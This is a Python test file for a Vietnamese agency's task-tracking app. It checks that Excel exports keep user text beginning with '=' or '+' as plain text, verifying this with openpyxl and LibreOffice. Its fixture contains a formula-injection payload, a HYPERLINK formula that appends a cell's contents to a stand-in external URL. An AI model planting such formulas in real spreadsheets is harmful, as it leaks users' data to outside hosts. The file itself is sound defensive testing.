"""Excel exports hold user text as text: a subject, a section number or a progress note that begins
with "=", "+", "-" or "@" must not become a live formula in the office's workbook (issue 11, defect 2).
Checked by reading the file back and by letting LibreOffice compute it."""
import csv
import shutil
import subprocess
from io import BytesIO

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.extensions import db
from app.models import Agency, Assignment, ProgressReport

HEALTH = "Sở Y tế tỉnh Kon Tum"
LINK = '=HYPERLINK("http://example.invalid/?"&C2,"Chi tiết")'
TYPED = {"subject": LINK, "section": "=1+1", "note": "+SUM(1,2)"}


@pytest.fixture
def hostile(live):
    """One of Sở Y tế's tasks whose directive, section and latest note were typed as formulas."""
    with live.app_context():
        assignment = db.session.scalar(select(Assignment).join(Agency).where(Agency.name == HEALTH)
                                       .order_by(Assignment.id))
        assignment.directive.subject = TYPED["subject"]
        assignment.task.section.number = TYPED["section"]
        assignment.status = "dang_thuc_hien"
        db.session.add(ProgressReport(assignment=assignment, new_status="dang_thuc_hien", percent=5,
                                      note=TYPED["note"]))
        db.session.commit()
    return live


def exported(login, username, path):
    response = login(username).get(path)
    assert response.status_code == 200 and response.data[:2] == b"PK"
    return response.data


@pytest.mark.parametrize("username, path", [("vanphong", "/theo-doi/nhiem-vu.xlsx"), ("soyte", "/nhiem-vu.xlsx")])
def test_typed_formulas_are_text_cells(hostile, login, username, path):
    sheet = load_workbook(BytesIO(exported(login, username, path))).active
    typed = [cell for row in sheet.iter_rows() for cell in row if cell.value in TYPED.values()]
    assert {cell.value for cell in typed} == set(TYPED.values())
    assert {cell.data_type for cell in typed} == {"s"}  # a formula would read back as "f"


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (make test installs it)")
def test_libreoffice_computes_nothing_from_typed_text(hostile, login, tmp_path):
    workbook = tmp_path / "nhiem-vu.xlsx"
    workbook.write_bytes(exported(login, "vanphong", "/theo-doi/nhiem-vu.xlsx"))
    subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
                    "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(tmp_path),
                    str(workbook)], check=True, capture_output=True, timeout=120)
    with open(tmp_path / "nhiem-vu.csv", encoding="utf-8", newline="") as handle:
        cells = {cell for row in csv.reader(handle) for cell in row}
    assert set(TYPED.values()) <= cells  # shown as typed, not "Chi tiết", "2" or "3"
    assert "Chi tiết" not in cells
